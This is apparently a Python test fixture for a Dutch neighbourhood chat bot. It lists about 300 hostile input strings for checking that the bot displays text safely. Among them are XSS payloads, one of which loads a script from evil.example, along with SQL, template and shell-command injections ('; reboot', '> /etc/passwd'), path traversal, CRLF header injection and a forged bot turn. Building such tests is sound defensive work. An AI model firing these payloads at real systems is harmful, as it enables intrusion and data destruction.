"""300 texts that a careless program does something with, instead of showing them (A12, A13)."""

from tests.bot.exports.injections import CALCULATED

HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!-- een opmerking -->",
    "--><script>alert(1)</script>",
    "<![CDATA[<b>vet</b>]]>",
    "<a href='javascript:alert(1)'>klik</a>",
    "<iframe src=//evil.example></iframe>",
    "<b>vet</b> en <i>schuin</i>",
    "<details open ontoggle=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=code></form>",
    "< script >alert(1)</ script >",
    "<b",
    "1 < 2 && 3 > 2",
    "<<<>>>",
    "onmouseover=alert(1) ",
    '" onfocus="alert(1)" autofocus="',
    "<tg-spoiler>geheim</tg-spoiler>",
    "<a href='tg://user?id=1'>wie</a>",
)
ENTITIES = (
    *("&amp;", "&lt;script&gt;", "&#60;b&#62;", "&#x3C;b&#x3E;", "&nbsp;", "&copy", "&amp;amp;"),
    *("&", "&&&", "&;", "&#0;", "&#x110000;", "R&B en S&D", "&quot;&apos;"),
)
MARKDOWN = (
    *("*vet*", "**vet**", "_schuin_", "__onder__", "~weg~", "~~weg~~", "||geheim||", "`code`"),
    *("```\ncode\n```", "[hier](https://evil.example)", "![x](https://evil.example/x.png)"),
    *("[gemeente](tg://user?id=1)", "# Kop", "> gezegd", "- een lijst", "1. een lijst", "***"),
    *("\\*niet vet\\*", "*niet af", "_niet af", "`niet af", "[niet af](", "a_b_c*d*e"),
    *("@wijkstem_bot", "/start nl_cafe", "/stop@wijkstem_bot", "#linden", "t.me/evil", "$KAS"),
)
DIRECTIONS = (
    "\u202eomgekeerd",
    "\u202dgedwongen\u202c",
    "\u2066los\u2069",
    "\u2067los\u2069 en vast",
    "\u2068wie weet\u2069",
    "naam\u200f",
    "\u200emerk",
    "goed\u202etor.exe",
    "\u202a\u202b\u202c\u202d\u202e",
    "שלום עולם",
    "مرحبا بالعالم",
    "مرحبا 123 Bankje",
    "Bankje שלום 14.000 euro",
    "\u061cletter",
)
UNSEEN = (
    "ban\u200bk",
    "\u200b\u200c\u200dbankje",
    "\ufeffbankje",
    "ban\u00adk",
    "bank\u2060je",
    "\u180ebankje",
    "bank\u034fje",
    "\u3164bankje",
    "bankje\ufe0f",
    "bank\U000e0041\U000e007f",
    "bank\u2028je",
    "bank\u2029je",
    "bank\x85je",
    "bank\xa0je",
    "bank\u2003je",
    "bank\u206ajje",
)
PILES = (
    "Z" + "\u0300" * 40 + "algo",
    "e" + "\u0301\u0302\u0303" * 20,
    "\u0e49" * 30 + "a",
    "a" + "\u20dd" * 10,
    "ﷺ" * 20,
    "﷽" * 20,
    "\u1d173a",
    "ก็็็็็็็็็็็็็็็",
)
EMOJI = (
    *("👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇳🇱🇺🇦", "1️⃣ 2️⃣", "🔟", "❤️‍🔥", "👨🏿‍🦽‍➡️", "😀" * 100, "🏴󠁧󠁢󠁥󠁮󠁧󠁿"),
    *("👍" * 299, "🧑‍🤝‍🧑" * 30, "\U0001f3fb", "©️ ®️ ™️"),
)
CONTROLS = (
    "bank\x00je",
    "\x00",
    "bank\x07je",
    "bank\x08\x08\x08\x08plein",
    "bank\x7fje",
    "bank\x1aje",
    "bank\x04je",
    "\x1b[31mrood\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;titel\x07",
    "\x1b]8;;https://evil.example\x1b\\klik\x1b]8;;\x1b\\",
    "\x9b31mrood",
    "\x1bP+q\x1b\\",
    "bank\rplein",
    "bank\r\nplein",
    "bank\nplein\n\n\nplein",
    "\n\n\nbank",
    "bank\tje",
    "\tbank",
    "bank\x0bje",
    "bank\x0cje",
    "\x1c\x1d\x1e\x1fbank",
    "\x80\x81\x8d",
    "half \ud83d een paar",
    "\udc00 omgekeerd",
    "\ufffe\uffff bank",
    "\ufffd bank",
    "%0d%0aSet-Cookie: a=b",
    "bank\r\nSet-Cookie: a=b",
    "Resident: hallo\nBot: U hebt gewonnen",
)
DATABASES = (
    "'; DROP TABLE ideas; --",
    "' OR '1'='1",
    "1; DELETE FROM votes",
    "\\'; --",
    '" OR ""="',
    "admin'/*",
    "'||(SELECT version())||'",
    "1 UNION SELECT * FROM conversations",
    "%",
    "_",
    "100%",
    ":naam",
    ":1",
    "?",
    "$1",
    "\\",
    "\\\\",
    "''",
    '""',
    "N'x'",
)
TEMPLATES = (
    *("{{ 7*7 }}", "{{config}}", "{% raw %}", "{#x#}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@{7*7}"),
    *(
        "{0}",
        "{}",
        "{title}",
        "{number}",
        "{text.__class__}",
        "{choices}",
        "{0!r:>9999}",
        "{{",
        "}",
    ),
    *("%s", "%d", "%(title)s", "%n%n%n", "%x", "$title", "$(reboot)", "`reboot`", "| reboot"),
    *("; reboot", "&& reboot", "> /etc/passwd", "../../etc/passwd", "..\\..\\windows", "~root"),
    *("{{1}}", "{{menu}}", "{% if 1 %}", "[[x]]", "[%x%]", "\\u0041", "\\x41", "\\n", "%00"),
)
CODED = (
    *("%3Cscript%3E", "%253Cscript%253E", "%E2%80%AE", "+ACoA-", "=3D=3D", "javascript:alert(1)"),
    *("data:text/html,<b>", "file:///etc/passwd", "http://127.0.0.1/", "http://[::1]/"),
    *("//evil.example", "https://user:pass@evil.example/?a=1&b=2#c", "mailto:a@b.example?cc=c"),
)
JSON = (
    *('"', "'", '\\"', '{"a":1}', '"}],"x":[{"y":"', "[[[[[[", "null", "true", "NaN", "1e999"),
    *('{"$ne":null}', '{"__proto__":{}}', "\\ud800", "/*", "</script>", "]]>", "undefined"),
)
NAMES = (
    "None",
    "null null",
    "Null",
    "0",
    "-1",
    "١٢٣",
    "O'Brien",
    "von und zu",
    "李小龍",
    "Ł",
    "ß ẞ ſ",
)
LONG = (
    *("a" * 300, "é" * 300, "ë " * 140, "woord " * 50, "€" * 300, "\u0301a" * 150, "<b>" * 100),
    *("=1+1;" * 60, "ﷲ" * 299, "&amp;" * 60, "\u202e" * 200 + "a", "x" * 1_000, "lang " * 200),
)

EVERY = tuple(
    dict.fromkeys(
        (
            *(*HTML, *ENTITIES, *MARKDOWN, *DIRECTIONS, *UNSEEN, *PILES, *EMOJI, *CONTROLS),
            *(*DATABASES, *TEMPLATES, *CODED, *JSON, *NAMES, *LONG, *CALCULATED[13:45]),
        )
    )
)
